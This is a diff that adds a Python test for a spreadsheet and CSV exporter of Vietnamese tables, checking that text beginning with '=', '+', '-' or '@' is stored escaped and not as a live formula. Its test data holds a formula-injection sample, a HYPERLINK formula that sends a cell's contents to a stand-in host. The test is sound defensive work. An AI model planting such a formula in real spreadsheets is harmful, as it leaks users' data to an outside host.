@@ -48,3 +48,20 @@ def test_csv_round_trip_with_a_bom(tmp_path):
     assert rows[3] == ["2", "Thị trấn Bắc Yên", "31", "91.2", ""]
     assert float(rows[3][3]) == 91.2 and rows[4] == [] and rows[5] == ["Kết quả từng tiêu chí"]
     assert csv_bytes(TABLES, titles=False).decode("utf-8-sig").splitlines()[0] == ",".join(TABLES[0].header)
+
+
+def test_text_that_looks_like_a_formula_stays_text(tmp_path):
+    """A unit named "=HYPERLINK(…)" (imported from a bundle or a registry file) must not become a live
+    formula in the office's spreadsheet; numbers, negative ones too, stay numbers."""
+    evil = '=HYPERLINK("http://x.invalid/?"&A1,"Bấm vào đây")'
+    table = Table("Biểu", ["STT", "Đơn vị", "Ghi chú", "Số"],
+                  [[1, evil, "+84 912", -3], [2, "@SUM(A1:A2)", "-1+1", 2.5]])
+    ws = openpyxl.load_workbook(write_xlsx(tmp_path / "b.xlsx", [table])).active
+    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
+    assert not any(c.data_type == "f" for c in cells)
+    rows = list(ws.iter_rows(min_row=2, values_only=True))
+    assert rows == [(1, "'" + evil, "'+84 912", -3), (2, "'@SUM(A1:A2)", "'-1+1", 2.5)]
+    text = csv_bytes([table], titles=False).decode("utf-8-sig")
+    read = list(csv.reader(io.StringIO(text)))
+    assert read[1] == ["1", "'" + evil, "'+84 912", "-3"]
+    assert read[2] == ["2", "'@SUM(A1:A2)", "'-1+1", "2.5"]
